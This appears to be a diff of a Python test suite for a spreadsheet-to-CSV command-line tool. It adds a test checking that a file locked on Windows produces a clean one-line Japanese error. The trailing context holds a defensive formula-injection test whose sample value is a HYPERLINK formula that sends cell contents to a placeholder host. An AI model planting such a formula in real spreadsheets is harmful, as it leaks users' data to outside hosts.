@@ -65,6 +65,25 @@ def test_a_failed_write_leaves_the_old_file_and_no_partial_one(
     assert sorted(p.name for p in tmp_path.iterdir()) == ["予定.xlsx", "台帳.xlsx"]
 
 
+def test_a_file_held_open_elsewhere_is_one_line_naming_no_generate_flag(
+    book: Path, tmp_path: Path, cli: Cli, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    out = tmp_path / "予定.csv"
+    real_replace = os.replace
+
+    def locked(src: str | Path, dst: str | Path) -> None:
+        if Path(dst) == out:  # opened in Excel between the check and the rename (Windows)
+            raise PermissionError(13, "The process cannot access the file", str(dst))
+        real_replace(src, dst)
+
+    monkeypatch.setattr(os, "replace", locked)
+    done = cli("plan", book, "--format", "csv", "--out", out)
+    assert done.code == 2 and "Traceback" not in done.err
+    assert f"{out} を置き換えられませんでした" in done.err and "閉じてからもう一度実行" in done.err
+    assert "--force" not in done.err and "--no-pdf" not in done.err
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["台帳.xlsx"]
+
+
 def test_formula_like_text_from_the_workbook_stays_text(tmp_path: Path, cli: Cli) -> None:
     evil = '=HYPERLINK("http://example.invalid/?"&A1,"詳細")'
     book = write_workbook(tmp_path / "in.xlsx", {"契約": [contract_row(業務名="x")]})
